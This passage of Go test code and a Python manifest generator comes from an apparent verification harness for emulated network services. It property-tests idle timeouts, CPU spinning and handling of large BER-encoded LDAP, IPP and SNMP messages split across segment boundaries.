			var out []silenceCase
			for _, s := range svc.AllServices {
				p := svc.PortOf(s)
				if !p.TCP {
					continue
				}
				out = append(out, silenceCase{s, "nothing", ""})
				for k := 0; k < 5; k++ {
					tr := svc.GenTraffic(t, s)
					if tr.UDP || len(tr.Units) == 0 {
						continue
					}
					// silence after every complete unit of the dialogue (the server may be
					// the one talking by then: vnc frames, banners, prompts)
					var pre []byte
					for i, u := range tr.Units {
						pre = append(pre, u...)
						if i > 0 {
							out = append(out, silenceCase{s, "after-unit", vlib.Hex(pre)})
						}
					}
					u0 := tr.Units[0]
					if len(u0) > 1 {
						cut := rapid.IntRange(1, len(u0)-1).Draw(t, "cut")
						out = append(out, silenceCase{s, "partial", vlib.Hex(u0[:cut])})
					}
					out = append(out, silenceCase{s, "after-first-unit", vlib.Hex(u0)})
					if len(tr.Units) > 2 {
						var b []byte
						for _, u := range tr.Units[:len(tr.Units)-1] {
							b = append(b, u...)
						}
						b = append(b, tr.Units[len(tr.Units)-1][:len(tr.Units[len(tr.Units)-1])/2]...)
						out = append(out, silenceCase{s, "mid-dialogue", vlib.Hex(b)})
					}
				}
			}
			return out
		})
		cases = g.Example(int(r.Seed % 1000))
	}
	c, err := svc.StartChild(nil) // its own child: TestRelease runs concurrently
	if err != nil {
		t.Fatalf("infra: %v", err)
	}
	defer c.Stop()
	req := svc.Request{Op: "run", Keep: true, WaitMs: 1}
	for _, k := range cases {
		w := svc.WireScript{Service: k.Service, End: "open"}
		if k.Sent != "" {
			w.Steps = []svc.WireStep{{D: k.Sent}}
		}
		req.Scripts = append(req.Scripts, w)
	}
	resp, err := c.Do(req, 120*time.Second)
	if err != nil {
		t.Fatalf("infra: %v", err)
	}
	var handles []int
	for _, cr := range resp.Conns {
		handles = append(handles, cr.Handle)
	}
	// The idle deadline (30 s) is re-armed on every read, and the Go standard library's
	// line readers swallow a timeout that arrives together with a partial line, so a
	// handler may need a few expiries before it gives up. "Bounded" is checked as
	// 4 idle periods + slack.
	time.Sleep(31 * time.Second)
	wr, err := c.Do(svc.Request{Op: "waitclosed", Handles: handles, WaitMs: 95000}, 150*time.Second)
	if err != nil {
		t.Fatalf("infra: %v", err)
	}
	for i, cr := range wr.Conns {
		k := cases[i]
		r.Case("silence/"+k.Service+"/"+k.Stage, vlib.JSON(k), func() interface{} { return k })
		if !cr.Closed {
			// re-measure once before reporting
			w2, err := c.Do(svc.Request{Op: "waitclosed", Handles: []int{cr.Handle}, WaitMs: 9000}, 60*time.Second)
			if err == nil && len(w2.Conns) == 1 && w2.Conns[0].Closed {
				continue
			}
			r.Violation(t, "TestSilence", k, fmt.Sprintf("%s: connection silent at stage %q is still open 135 s after its last byte (idle timeout is 30 s)", k.Service, k.Stage))
		}
	}
}

// TestSpin is the cheap, wide variant: many single connections, and after each the idle
// process must not be burning CPU; a suspicion is confirmed (and attributed) by the full
// measurement of TestRelease's oracle on that connection script.
func TestSpin(t *testing.T) {
	t.Parallel()
	r := vlib.Open(prop)
	if vlib.Replaying() {
		return // reported and replayed as TestRelease cases
	}
	r.Rule("spin search: one generated connection (grammar / mutated / raw) per case against a lab child of its own, then an 80 ms idle window: more than 50 ms of process CPU in it (20 ms when the server has not closed the connection 3 s after the client's end) is a suspicion, confirmed by the full release measurement (fresh child, attribution) before it is reported")
	c, err := svc.StartChild(nil)
	if err != nil {
		t.Fatalf("infra: %v", err)
	}
	defer func() { c.Stop() }()
	served := 0
	r.Rapid(t, "TestRelease", r.Pick(250, 4000), func(rt *rapid.T) {
		cc := genConn(rt)
		cc.Poison = nil
		if cc.Kind == "after-odd-client" {
			cc.Kind = "grammar"
		}
		if !c.Alive() || served > 400 {
			c.Stop()
			if c, err = svc.StartChild(nil); err != nil {
				rt.Fatalf("infra: %v", err)
			}
			served = 0
		}
		served++
		resp, e := c.Do(svc.Request{Op: "run", Scripts: []svc.WireScript{cc.wire()}, WaitMs: 3000}, 120*time.Second)
		if e != nil {
			c.Stop()
			c, _ = svc.StartChild(nil)
			r.Label("inconclusive-process-died-or-hung(see C01)", 1)
			return
		}
		nt := false
		stillOpen := false
		for _, cr := range resp.Conns {
			if cr.Events > 0 || cr.Replies > 0 || cr.Consumed > 0 {
				nt = true
			}
			if !cc.UDP && !cr.Closed {
				stillOpen = true // 3 s after the client's end: worth the full measurement (load independent)
			}
		}
		fp := ""
		if nt {
			fp = vlib.JSON(cc)
		}
		r.Case(fmt.Sprintf("spin/%s/%s", cc.Service, cc.Kind), fp, func() interface{} {
			return map[string]interface{}{"service": cc.Service, "kind": cc.Kind, "note": cc.Note}
		})
		m0, e0 := c.Do(svc.Request{Op: "mem"}, 30*time.Second)
		time.Sleep(80 * time.Millisecond)
		m1, e1 := c.Do(svc.Request{Op: "mem"}, 30*time.Second)
		if e0 != nil || e1 != nil {
			return
		}
		// a handler that merely waits (for a timeout, for a data connection) uses no CPU; a
		// spinning one gets at least a share of a core even on a loaded machine
		cpu := m1.Stats.CPUMs - m0.Stats.CPUMs
		if cpu <= 50 && !(stillOpen && cpu >= 20) {
			return
		}
		// suspicion: this child is spinning. Confirm on fresh children with the full oracle.
		c.Stop()
		c, _ = svc.StartChild(nil)
		served = 0
		r.Label("spin/suspicions-confirmed-with-full-measurement", 1)
		dropChild()
		history = nil
		if _, err := releaseOnce(cc); verdict(err) {
			dropChild()
			r.Fail(rt, "TestRelease", cc, "%v", err)
		}
		dropChild()
	})
}
