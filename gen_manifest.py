#!/usr/bin/env python3
"""Regenerates MANIFEST.json from props.json + properties.jsonl (keeps it valid at all times)."""
import json, os
ROOT = os.path.dirname(os.path.abspath(__file__))
props = json.load(open(os.path.join(ROOT, "props.json")))
import glob
for _f in sorted(glob.glob(os.path.join(ROOT, "c[0-9][0-9]*", "prop.json"))):
    props.update(json.load(open(_f)))
ready = set(open(os.path.join(ROOT, "READY")).read().split())
props = {k: v for k, v in props.items() if k in ready}
allp = [json.loads(l) for l in open(os.path.join(ROOT, "properties.jsonl"))]
checks = []
na = []
for p in allp:
    pid = p["id"]
    if pid in props and props[pid].get("claimed", True):
        c = props[pid]
        checks.append({
            "property_id": pid,
            "quick_cmd": "./run %s --tier quick" % pid,
            "thorough_cmd": "./run %s --tier thorough" % pid,
            "evidence_file": "/verif/evidence/%s.json" % pid,
            "replay_cmd_template": "./run %s --replay {path}" % pid,
            "engine": "rapid+enumerators",
            "level_claimed": {
                "category": c.get("level", "exploration"),
                "text": c["level_text"],
                "design_ref": "DESIGN.md section 3, " + pid,
            },
            "level_note": c["level_note"],
            "technique": c["technique"],
        })
    else:
        na.append({"property_id": pid, "reason": props.get(pid, {}).get("na_reason", "check not built yet in this round; planned in DESIGN.md section 3")})
m = {
    "version": 1,
    "setup_cmd": "./setup.sh",
    "hooks": {
        "guard": "verif",
        "enable": "go build tag: go test -tags verif (the driver ./run passes it for every build against /repo)",
        "baseline_off_cmd": "cd /repo && GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off go test -vet=off -count=1 -timeout 25m ./...",
        "source_commits": json.load(open(os.path.join(ROOT, "MANIFEST.hooks")))["source_commits"] if os.path.exists(os.path.join(ROOT, "MANIFEST.hooks")) else [],
        "add_only": True,
    },
    "engines": [
        {"name": "rapid+enumerators", "path": "/verif/run", "serves_properties": [c["property_id"] for c in checks],
         "kind_free_text": "Go test binaries per property (pgregory.net/rapid v1.3.0 properties and state machines, exhaustive small-scope enumerators, native go fuzz targets in the thorough tier) built against /repo's working tree with -tags verif; python driver merges per-process statistics into the evidence file"},
    ],
    "checks": checks,
    "not_applicable": na,
    "notes": "Exit 0 = held on everything explored, 1 = VIOLATION line printed, 2 = inconclusive (build/timeout/worker death/generator health). Known findings: /verif/known_findings.json.",
}
if not na:
    del m["not_applicable"]
json.dump(m, open(os.path.join(ROOT, "MANIFEST.json"), "w"), indent=1)
print("claimed:", [c["property_id"] for c in checks], "not_applicable:", [x["property_id"] for x in na])
