package c04

import (
	"bytes"
	"fmt"
	"sort"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"verif/svc"
	"verif/vlib"
)

// ---------------------------------------------------------------- unit SIZE in the length-prefixed binary protocols
//
// The shared grammars (svc.GenLDAP, the UDP snmp / dns grammars) only produce units far
// below 128 bytes, so every BER length is in its one-byte short form, and ipp is not among
// svc.TCPServices at all. The kinds below are the same protocols with units of
// 128 .. 70000 bytes (long DNs / passwords / attribute values / many attributes / print
// data): the lengths take their 0x81, 0x82 and 0x83 forms (ipp: two-byte lengths up to
// 65535), a message no longer fits one buffer fill, and a segment boundary can fall
// INSIDE a multi-byte length field. Only the LENGTHS are drawn (boundary-biased); the
// content is a deterministic position-dependent filler, so a huge unit costs no draws.

var bigKinds = []string{"ldap-big", "ipp"}

// hotDialog: a generated dialog plus the cut points (stream offsets) inside the
// length-bearing header bytes of its units.
type hotDialog struct {
	d   svc.Dialog
	hot []int
}

// ---- own BER encoder (independent of svc's and of the services')

func bLen(n int) []byte {
	switch {
	case n < 0x80:
		return []byte{byte(n)}
	case n < 0x100:
		return []byte{0x81, byte(n)}
	case n < 0x10000:
		return []byte{0x82, byte(n >> 8), byte(n)}
	case n < 0x1000000:
		return []byte{0x83, byte(n >> 16), byte(n >> 8), byte(n)}
	}
	return []byte{0x84, byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n)}
}

func bTLV(tag byte, parts ...[]byte) []byte {
	n := 0
	for _, p := range parts {
		n += len(p)
	}
	out := make([]byte, 0, n+6)
	out = append(out, tag)
	out = append(out, bLen(n)...)
	for _, p := range parts {
		out = append(out, p...)
	}
	return out
}

func bInt(n int) []byte {
	b := []byte{byte(n)}
	for x := n >> 8; x > 0; x >>= 8 {
		b = append([]byte{byte(x)}, b...)
	}
	if b[0]&0x80 != 0 {
		b = append([]byte{0}, b...)
	}
	return bTLV(0x02, b)
}

func bStr(s string) []byte { return bTLV(0x04, []byte(s)) }

// filler: exactly n bytes of [a-z0-9], position dependent (a shifted, truncated or
// repeated copy differs), different per salt.
func filler(n, salt int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = asciiToken[(i*7+i/36+i/1296+salt)%len(asciiToken)]
	}
	return string(b)
}

// pieces: filler(n) split into words of 3..19 bytes (for "many attributes / many values").
func pieces(n, salt int) []string {
	s := filler(n, salt)
	var out []string
	for j := 0; len(s) > 0; j++ {
		l := 3 + (j*5+salt)%17
		if l > len(s) {
			l = len(s)
		}
		out = append(out, s[:l])
		s = s[l:]
	}
	return out
}

// drawSize: a unit / field size, biased to where a length changes its encoded form
// (128, 256, 65536), to the service's read buffer size (4096) and its multiples.
func drawSize(t *rapid.T, label string, max int) int {
	edge := func(e int) int {
		n := e + rapid.IntRange(-9, 9).Draw(t, label+"-delta")
		if n < 0 {
			n = 0
		}
		if n > max {
			n = max
		}
		return n
	}
	switch rapid.IntRange(0, 11).Draw(t, label+"-class") {
	case 0, 1, 2:
		return edge(128)
	case 3, 4:
		return edge(256)
	case 5:
		return edge(4096)
	case 6:
		return edge(65536)
	case 7:
		return edge(8192)
	case 8, 9:
		if max > 128 {
			return rapid.IntRange(128, min(2000, max)).Draw(t, label)
		}
	case 10:
		if max > 2000 {
			return rapid.IntRange(2000, max).Draw(t, label)
		}
		return max
	}
	return rapid.IntRange(0, min(127, max)).Draw(t, label)
}

// fitTotal: the largest pad <= want for which the whole unit is at most want bytes (the
// nested length fields grow with the pad, so not every total is reachable).
func fitTotal(build func(pad int) []byte, want int) int {
	pad := want - len(build(0))
	if pad < 0 {
		return 0
	}
	for pad > 0 && len(build(pad)) > want {
		pad--
	}
	return pad
}

// headCuts: the cut points inside the first n bytes of a unit that starts at off.
func headCuts(off, unitLen, n int) []int {
	var out []int
	for p := 1; p <= n && p < unitLen; p++ {
		out = append(out, off+p)
	}
	return out
}

// ---- ldap

func genLDAPBig(t *rapid.T) hotDialog {
	d := svc.Dialog{Service: "ldap"}
	var hot []int
	n := rapid.IntRange(1, 4).Draw(t, "nmsg")
	bigAt := rapid.IntRange(0, n-1).Draw(t, "bigat")
	id := rapid.IntRange(1, 120).Draw(t, "firstid")
	off := 0
	for i := 0; i < n; i++ {
		id += rapid.IntRange(1, 40).Draw(t, "idstep")
		ids := fmt.Sprint(id)
		salt := i * 11
		big := i == bigAt || rapid.IntRange(0, 3).Draw(t, "alsobig") == 0
		ops := []string{"bind-dn", "bind-pw", "search-base", "search-value", "search-attrs", "add-attrs", "add-value", "modify", "delete", "modifydn", "compare"}
		if i == n-1 {
			ops = append(ops, "unbind")
		}
		op := rapid.SampledFrom(ops).Draw(t, "op")
		var build func(pad int) []byte
		var expect func(pad int) svc.Expect
		name := strings.SplitN(op, "-", 2)[0]
		switch op {
		case "bind-dn":
			pre := rapid.SampledFrom([]string{"cn=", "sn=", "uid=", ""}).Draw(t, "rdn")
			suf := rapid.SampledFrom([]string{",dc=example,dc=com", "", ",ou=people"}).Draw(t, "suffix")
			pw := rapid.SampledFrom([]string{"root", "", "secret"}).Draw(t, "pw")
			dn := func(pad int) string { return pre + filler(pad, salt) + suf }
			build = func(pad int) []byte {
				return bTLV(0x30, bInt(id), bTLV(0x60, bInt(3), bStr(dn(pad)), bTLV(0x80, []byte(pw))))
			}
			expect = func(pad int) svc.Expect {
				return match("ldap.request-type", "bind", "ldap.message-id", ids, "ldap.username", svc.LDAPUser(dn(pad)), "ldap.password", pw)
			}
		case "bind-pw":
			dn := rapid.SampledFrom([]string{"cn=root,dc=example,dc=com", "cn=admin", "uid=x,ou=people"}).Draw(t, "dn")
			build = func(pad int) []byte {
				return bTLV(0x30, bInt(id), bTLV(0x60, bInt(3), bStr(dn), bTLV(0x80, []byte(filler(pad, salt)))))
			}
			expect = func(pad int) svc.Expect {
				return match("ldap.request-type", "bind", "ldap.message-id", ids, "ldap.username", svc.LDAPUser(dn), "ldap.password", filler(pad, salt))
			}
		case "search-base", "search-value", "search-attrs":
			attr := rapid.SampledFrom([]string{"uid", "givenName", "cn", "mail"}).Draw(t, "attr")
			search := func(base, val string, attrs []string) []byte {
				var al [][]byte
				for _, a := range attrs {
					al = append(al, bStr(a))
				}
				return bTLV(0x30, bInt(id), bTLV(0x63, bStr(base), bTLV(0x0a, []byte{2}), bTLV(0x0a, []byte{0}), bInt(0), bInt(0), bTLV(0x01, []byte{0}),
					bTLV(0xa3, bStr(attr), bStr(val)), bTLV(0x30, al...)))
			}
			parts := func(pad int) (string, string, []string) {
				switch op {
				case "search-base":
					return "ou=" + filler(pad, salt) + ",dc=example,dc=com", "jdoe", nil
				case "search-value":
					return "dc=example,dc=com", filler(pad, salt), []string{"cn", "mail"}
				}
				return "dc=example,dc=com", "jdoe", pieces(pad, salt)
			}
			build = func(pad int) []byte { return search(parts(pad)) }
			expect = func(pad int) svc.Expect {
				base, val, _ := parts(pad)
				return match("ldap.request-type", "search", "ldap.message-id", ids, "ldap.search-basedn", base, "ldap.search-filter", attr, "ldap.search-filtervalue", val)
			}
		case "add-attrs", "add-value":
			build = func(pad int) []byte {
				var attrs [][]byte
				attrs = append(attrs, bTLV(0x30, bStr("objectClass"), bTLV(0x31, bStr("top"), bStr("person"))))
				if op == "add-value" {
					attrs = append(attrs, bTLV(0x30, bStr("jpegPhoto"), bTLV(0x31, bStr(filler(pad, salt)))))
				} else {
					for k, p := range pieces(pad, salt) {
						attrs = append(attrs, bTLV(0x30, bStr(fmt.Sprintf("a%d", k)), bTLV(0x31, bStr(p))))
					}
				}
				return bTLV(0x30, bInt(id), bTLV(0x68, bStr("cn=new,dc=example,dc=com"), bTLV(0x30, attrs...)))
			}
			expect = func(int) svc.Expect { return match("ldap.request-type", "add", "ldap.message-id", ids) }
		case "modify":
			build = func(pad int) []byte {
				return bTLV(0x30, bInt(id), bTLV(0x66, bStr("cn=x,dc=example,dc=com"), bTLV(0x30, bTLV(0x30, bTLV(0x0a, []byte{2}), bTLV(0x30, bStr("description"), bTLV(0x31, bStr(filler(pad, salt))))))))
			}
			expect = func(int) svc.Expect { return match("ldap.request-type", "modify", "ldap.message-id", ids) }
		case "delete":
			build = func(pad int) []byte { return bTLV(0x30, bInt(id), bTLV(0x4a, []byte("cn="+filler(pad, salt)))) }
			expect = func(int) svc.Expect { return match("ldap.request-type", "delete", "ldap.message-id", ids) }
		case "modifydn":
			build = func(pad int) []byte {
				return bTLV(0x30, bInt(id), bTLV(0x6c, bStr("cn=x,dc=example,dc=com"), bStr("cn="+filler(pad, salt)), bTLV(0x01, []byte{0xff})))
			}
			expect = func(int) svc.Expect { return match("ldap.request-type", "modify-dn", "ldap.message-id", ids) }
		case "compare":
			build = func(pad int) []byte {
				return bTLV(0x30, bInt(id), bTLV(0x6e, bStr("cn=x,dc=example,dc=com"), bTLV(0x30, bStr("description"), bStr(filler(pad, salt)))))
			}
			expect = func(int) svc.Expect { return match("ldap.request-type", "compare", "ldap.message-id", ids) }
		case "unbind":
			build = func(int) []byte { return bTLV(0x30, bInt(id), bTLV(0x42)) }
			expect = func(int) svc.Expect { return match("ldap.request-type", "unbind", "ldap.message-id", ids) }
		}
		pad := rapid.IntRange(0, 30).Draw(t, "smallpad")
		if big {
			size := drawSize(t, "size", 70000)
			if rapid.Bool().Draw(t, "size-is-total") {
				pad = fitTotal(build, size) // the whole message has (close to) this size
			} else {
				pad = size // the field has this size
			}
		}
		w := build(pad)
		d.Cmds = append(d.Cmds, svc.Cmd{Name: fmt.Sprintf("%s%d", name, len(w)), Wire: w, Exp: []svc.Expect{expect(pad)}, Ends: op == "unbind"})
		// the nested headers (message, id, operation, first field) sit in the first ~24 bytes
		hot = append(hot, headCuts(off, len(w), 24)...)
		if off > 0 {
			hot = append(hot, off)
		}
		off += len(w)
	}
	return hotDialog{d, hot}
}

// ---- ipp (one request per connection, by design of the service)

type ippAttr struct {
	tag  byte
	name string
	vals []string // raw value octets; further values follow with an empty name
}

func genIPPBig(t *rapid.T) hotDialog {
	op := rapid.SampledFrom([]int{2, 2, 2, 4, 9, 11, 0x400b}).Draw(t, "op")
	path := rapid.SampledFrom([]string{"/printers/x", "/ipp/print", "/"}).Draw(t, "path")
	// which field carries the size
	where := rapid.SampledFrom([]string{"user", "job-name", "uri", "doc", "doc", "keywords", "none"}).Draw(t, "where")
	size := 0
	if where != "none" {
		max := 65535 // attribute lengths are 16 bit
		if where == "doc" {
			max = 70000
		}
		size = drawSize(t, "size", max)
	}
	field := func(which string, small string) string {
		if where == which {
			return filler(size, len(which))
		}
		return small
	}
	uri := "ipp://lab/printers/" + field("uri", "x")
	if len(uri) > 65535 {
		uri = uri[:65535]
	}
	user := field("user", rapid.SampledFrom([]string{"root", "", "guest"}).Draw(t, "user"))
	job := field("job-name", rapid.SampledFrom([]string{"report.pdf", "", "j"}).Draw(t, "job"))
	attrs := []ippAttr{{0x47, "attributes-charset", []string{"utf-8"}}, {0x48, "attributes-natural-language", []string{"en"}}, {0x45, "printer-uri", []string{uri}}}
	hasUser, hasJob := rapid.Bool().Draw(t, "hasuser") || where == "user", rapid.Bool().Draw(t, "hasjob") || where == "job-name"
	if hasUser {
		attrs = append(attrs, ippAttr{0x42, "requesting-user-name", []string{user}})
	} else {
		user = ""
	}
	if hasJob {
		attrs = append(attrs, ippAttr{0x42, "job-name", []string{job}})
	} else {
		job = ""
	}
	if rapid.Bool().Draw(t, "hasformat") {
		attrs = append(attrs, ippAttr{0x49, "document-format", []string{rapid.SampledFrom([]string{"application/pdf", "application/octet-stream", "image/pwg-raster"}).Draw(t, "format")}})
	}
	if where == "keywords" {
		// a 1setOf keyword with many values
		attrs = append(attrs, ippAttr{0x44, "requested-attributes", pieces(size, 5)})
	} else if rapid.Bool().Draw(t, "requested") {
		attrs = append(attrs, ippAttr{0x44, "requested-attributes", []string{"printer-state", "all"}[:rapid.IntRange(1, 2).Draw(t, "nreq")]})
	}
	for k := rapid.IntRange(0, 2).Draw(t, "nextra"); k > 0; k-- {
		switch rapid.SampledFrom([]string{"int", "bool", "range"}).Draw(t, "extra") {
		case "int":
			attrs = append(attrs, ippAttr{0x21, fmt.Sprintf("copies%d", k), []string{"\x00\x00\x00\x02"}})
		case "bool":
			attrs = append(attrs, ippAttr{0x22, fmt.Sprintf("last-document%d", k), []string{"\x01"}})
		case "range":
			attrs = append(attrs, ippAttr{0x33, fmt.Sprintf("page-ranges%d", k), []string{"\x00\x00\x00\x01\x00\x00\x00\x09"}})
		}
	}
	var body bytes.Buffer
	var lenAt []int // offsets (in the body) of the big fields' two-byte length prefixes
	body.Write([]byte{byte(rapid.SampledFrom([]int{1, 2}).Draw(t, "vmajor")), byte(rapid.IntRange(0, 1).Draw(t, "vminor")), byte(op >> 8), byte(op)})
	reqid := rapid.IntRange(1, 1<<30).Draw(t, "reqid")
	body.Write([]byte{byte(reqid >> 24), byte(reqid >> 16), byte(reqid >> 8), byte(reqid)})
	body.WriteByte(1) // operation attributes
	for _, a := range attrs {
		for vi, v := range a.vals {
			body.WriteByte(a.tag)
			nm := a.name
			if vi > 0 {
				nm = ""
			}
			body.Write([]byte{byte(len(nm) >> 8), byte(len(nm))})
			body.WriteString(nm)
			if len(v) >= 128 {
				lenAt = append(lenAt, body.Len())
			}
			body.Write([]byte{byte(len(v) >> 8), byte(len(v))})
			body.WriteString(v)
		}
	}
	if rapid.Bool().Draw(t, "jobgroup") {
		body.WriteByte(2) // job attributes
		body.Write([]byte{0x21, 0, 6, 'c', 'o', 'p', 'i', 'e', 's', 0, 4, 0, 0, 0, 1})
	}
	body.WriteByte(3) // end of attributes
	docAt := body.Len()
	doc := ""
	if where == "doc" {
		doc = "%PDF-1.4\n" + filler(size, 3)
	} else if rapid.Bool().Draw(t, "smalldoc") {
		doc = "%PDF-1.4\n" + filler(rapid.IntRange(0, 60).Draw(t, "doclen"), 3)
	}
	body.WriteString(doc)
	head := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: lab\r\nContent-Type: application/ipp\r\nContent-Length: %d\r\n\r\n", path, body.Len())
	wire := append([]byte(head), body.Bytes()...)
	e := match("category", "ipp", "type", "request", "http.url", path, "ipp.data", doc, "ipp.uri", "", "ipp.user", "", "ipp.job-name", "")
	if op == 2 {
		// the service documents these for Print-Job only
		e.Match["ipp.uri"], e.Match["ipp.user"], e.Match["ipp.job-name"] = uri, user, job
	}
	d := svc.Dialog{Service: "ipp", Cmds: []svc.Cmd{{Name: fmt.Sprintf("op%x-%s%d", op, where, len(wire)), Wire: wire, Exp: []svc.Expect{e}}}}
	// hot: the start of the HTTP request, the end of its header + the ipp header and first
	// attribute, every big field's length prefix, the end-of-attributes tag / document start
	hot := headCuts(0, len(wire), 8)
	for p := len(head) - 4; p <= len(head)+16 && p < len(wire); p++ {
		hot = append(hot, p)
	}
	for _, at := range lenAt {
		for p := len(head) + at - 1; p <= len(head)+at+3 && p < len(wire); p++ {
			hot = append(hot, p)
		}
	}
	for p := len(head) + docAt - 2; p <= len(head)+docAt+2 && p < len(wire); p++ {
		hot = append(hot, p)
	}
	return hotDialog{d, hot}
}

// genTCPHot: the dialog of a kind plus the cut points inside its units' length-bearing
// headers (nil for the kinds whose units have none).
func genTCPHot(t *rapid.T, kind string) (svc.Dialog, []int) {
	var h hotDialog
	switch kind {
	case "ldap-big":
		h = genLDAPBig(t)
	case "ipp":
		h = genIPPBig(t)
	default:
		return genTCP(t, kind), nil
	}
	n := len(h.d.Stream())
	seen := map[int]bool{}
	var hot []int
	for _, p := range h.hot {
		if p >= 1 && p < n && !seen[p] {
			seen[p] = true
			hot = append(hot, p)
		}
	}
	sort.Ints(hot)
	return h.d, hot
}

// TestBigUnits: dialogs with units of 128..70000 bytes; every single cut point inside the
// units' headers (all of them for streams <= 400 bytes), cut points sampled over the rest
// with the read-buffer multiples among them, all header cut points at once (a dribble
// through every header), and pairs (unit boundary, cut inside that unit's header).
func TestBigUnits(t *testing.T) {
	r := vlib.Open(prop)
	var dc dialogCase
	if vlib.ReplayCase("TestBigUnits", &dc) {
		if err := checkTCP(dc); err != nil {
			r.Violation(t, "TestBigUnits", dc, err.Error())
		}
		return
	}
	r.Rule("length-prefixed binary protocols with LARGE units: ldap messages of 128..70000 bytes (long DNs / passwords / filter values / attribute values, many attributes; sizes biased to 128, 256, 4096, 8192 and 65536 +-9 so that the 0x81, 0x82 and 0x83 BER length forms and the buffer-size boundaries occur) mixed with short ones, and ipp requests (one per connection) with attribute values up to 65535 bytes, 1setOf values and documents up to 70000 bytes; every single cut inside the first 24 bytes of every unit / around the ipp header, the big fields' length prefixes and the document start (exhaustive per dialog; every cut of the stream when it has <= 400 bytes), sampled cuts elsewhere incl. multiples of 4096, all header cuts at once, and (unit boundary + cut in its header) pairs; same oracle as TestEveryCut")
	r.Rapid(t, "TestBigUnits", r.Pick(26, 90), func(rt *rapid.T) {
		kind := rapid.SampledFrom([]string{"ldap-big", "ldap-big", "ipp"}).Draw(rt, "kind")
		d, hot := genTCPHot(rt, kind)
		stream := d.Stream()
		n := len(stream)
		if n < 2 {
			rt.Skip("empty")
		}
		var cutSets [][]int
		if n <= 400 {
			for p := 1; p < n; p++ {
				cutSets = append(cutSets, []int{p})
			}
		} else {
			for _, p := range hot {
				cutSets = append(cutSets, []int{p})
			}
			for k := rapid.IntRange(2, 6).Draw(rt, "nsampled"); k > 0; k-- {
				cutSets = append(cutSets, []int{rapid.IntRange(1, n-1).Draw(rt, "cut")})
			}
			for p := 4096; p < n && p <= 3*4096; p += 4096 {
				cutSets = append(cutSets, []int{p}, []int{p - 1})
			}
			if n > 65536 {
				cutSets = append(cutSets, []int{65535}, []int{65536})
			}
		}
		if len(hot) > 1 {
			cutSets = append(cutSets, hot)
		}
		// a unit boundary together with a cut inside that unit's header: the header's first
		// bytes arrive as a segment of their own
		off := 0
		for _, c := range d.Cmds {
			if off > 0 {
				for _, k := range []int{1, 2, 3, 4} {
					if k < len(c.Wire) {
						cutSets = append(cutSets, []int{off, off + k})
					}
				}
			}
			off += len(c.Wire)
		}
		in, err := svc.Shared()
		if err != nil {
			rt.Fatalf("infra: %v", err)
		}
		base, err := runTCP(in, d, "single", nil)
		if err == nil {
			err = checkEvents(d, base, "single write")
		}
		if err != nil {
			if strings.Contains(err.Error(), "inconclusive:") {
				rt.Skip("inconclusive")
			}
			r.Fail(rt, "TestBigUnits", toCase(d, "single", nil), "%v", err)
		}
		a := strings.Join(canon(d, base), "\n")
		sig := fmt.Sprint(d.Summary(), len(stream), vlib.Hex(stream[:min(n, 48)]))
		for _, cuts := range cutSets {
			r.Case("big-units/"+kind, fmt.Sprint(sig, cuts), nil)
			got, err := runTCP(in, d, "cuts", cuts)
			if err == nil {
				err = checkEvents(d, got, fmt.Sprintf("cuts at %v", cuts))
			}
			if err == nil && strings.Join(canon(d, got), "\n") != a {
				err = fmt.Errorf("[%s] event list with cuts at %v differs from single-write delivery", d.Summary(), cuts)
			}
			if err != nil {
				if strings.Contains(err.Error(), "inconclusive:") {
					r.Label("inconclusive/not-closed", 1)
					continue
				}
				r.Fail(rt, "TestBigUnits", toCase(d, "cuts", cuts), "%v", err)
			}
		}
		r.Sample("big-units/"+kind, map[string]interface{}{"dialog": d.Summary(), "bytes": n, "cut_sets": len(cutSets)})
		maxUnit := 0
		for _, c := range d.Cmds {
			if len(c.Wire) > maxUnit {
				maxUnit = len(c.Wire)
			}
		}
		switch {
		case maxUnit >= 65536+4:
			r.Label("big-units/unit>=64k", 1)
		case maxUnit >= 256+4:
			r.Label("big-units/unit>=256", 1)
		case maxUnit >= 128+2:
			r.Label("big-units/unit>=128", 1)
		default:
			r.Label("big-units/unit<128", 1)
		}
	})
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}

// ---------------------------------------------------------------- large datagrams

// pendingFindings: genuine defects of the unchanged tree this check found and reported,
// excluded by construction until they are listed in known_findings.json (then IsKnown
// decides: "known" keeps the exclusion, "fixed" lifts it - remove the entry here then).
//
// C04-snmp-long-form-length: services/snmp/snmp.go takes the FIRST length octet of the
// message as its length (asnSize := 2 + int(hdr[1])), so every SNMP message of 128 bytes
// or more (length form 0x81 / 0x82: a long community, nine or more variable bindings)
// is cut to 131 / 132 bytes, fails to decode and produces no event at all.
// Reproducer: c04/pending/snmp-long-form-length.replay.json
var pendingFindings = map[string]bool{}

const kfSNMPLong = "C04-snmp-long-form-length"

func excludedFinding(r *vlib.Run, id string) bool { return r.IsKnown(id) || pendingFindings[id] }

// genUDPBig: snmp messages with long communities / many variable bindings (the message
// and its nested sequences take the 0x81 / 0x82 length forms) and dns queries with names
// and labels at their maximum lengths.
func genUDPBig(t *rapid.T, service string, snmpMax int) svc.Dialog {
	d := svc.Dialog{Service: service, UDP: true}
	n := rapid.IntRange(1, 3).Draw(t, "ndgram")
	for i := 0; i < n; i++ {
		switch service {
		case "snmp":
			tag := rapid.SampledFrom([]byte{0xa0, 0xa1, 0xa3}).Draw(t, "pdu")
			typ := map[byte]string{0xa0: "get-request", 0xa1: "get-next-request", 0xa3: "set-request"}[tag]
			reqid := rapid.IntRange(1, 100000).Draw(t, "reqid")
			byComm := rapid.Bool().Draw(t, "by-community")
			build := func(pad int) ([]byte, string, string) {
				comm := "public"
				nvb := 1
				if byComm {
					comm = filler(pad, 1)
				} else {
					nvb = 1 + pad/15 // a binding takes about 15 bytes
				}
				var vbs [][]byte
				var strs []string
				for k := 0; k < nvb; k++ {
					arcs := []int{1, 3, 6, 1, 2, 1, 2, 2, 1, 1 + k%22, 1 + k}
					oid := []byte{0x2b}
					for _, a := range arcs[2:] {
						if a >= 128 {
							oid = append(oid, byte(a>>7)|0x80)
						}
						oid = append(oid, byte(a&0x7f))
					}
					vbs = append(vbs, bTLV(0x30, bTLV(0x06, oid), bTLV(0x05)))
					s := make([]string, len(arcs))
					for ai, a := range arcs {
						s[ai] = fmt.Sprint(a)
					}
					strs = append(strs, strings.Join(s, "."))
				}
